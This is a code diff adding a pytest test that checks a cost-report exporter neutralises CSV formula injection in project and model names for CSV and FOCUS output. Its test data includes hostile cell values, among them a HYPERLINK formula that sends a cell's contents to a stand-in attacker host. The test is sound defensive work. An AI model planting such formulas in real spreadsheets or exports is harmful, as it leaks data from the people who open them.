@@ -104,3 +104,35 @@ def test_months_and_their_bounds() -> None:
     with pytest.raises(ReportError, match="has not started"):
         parse_month("2027-01", DEC)
     assert list(months(NOV + 3 * DAY, DEC + DAY)) == [(NOV, DEC), (DEC, DEC + DAY)]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "focus", "focus-1.0"])
+def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(fmt: str) -> None:
+    """Project and model names are whatever members of the organisation typed; a cell starting
+    with = + - @, a tab or CR runs as a formula when finance opens the CSV."""
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1)', "+1+2", "-1+2", "@SUM(1)", "\tx", "\ry"]
+    days = {
+        NOV: {
+            (Family.BILLED_COST, Dims(f"p{i}", name), ("usage",)): 1.0
+            for i, name in enumerate(hostile)
+        }
+        | {(Family.BILLED_COST, Dims("credit"), ("credit",)): -3.0}
+    }
+    names = {f"p{i}": name for i, name in enumerate(hostile)}
+    rows = report_rows([AccountMonth("openai", "prod", NOV, DEC, days, names)])
+    out = io.StringIO()
+    write_report(rows, (NOV, DEC), fmt, out)
+    records = list(csv.DictReader(io.StringIO(out.getvalue())))
+    cells = [value for record in records for value in record.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-")[:1].isdigit()]
+    expected = {"'" + name.replace("\r", "\n") for name in hostile}  # a lone CR ends a row
+    project = "project" if fmt == "csv" else "SubAccountName"
+    assert {r[project] for r in records} - {"", "credit"} == expected
+    if fmt == "csv":
+        assert {r["model"] for r in records} - {""} == expected
+    else:  # inside the Tags JSON object, whose cell starts with "{"
+        models = {json.loads(r["Tags"]).get("model") for r in records} - {None}
+        assert models == set(hostile)
+    billed = "billed_cost_usd" if fmt == "csv" else "BilledCost"
+    assert "-3.0" in {r[billed] for r in records}  # a credit stays a number
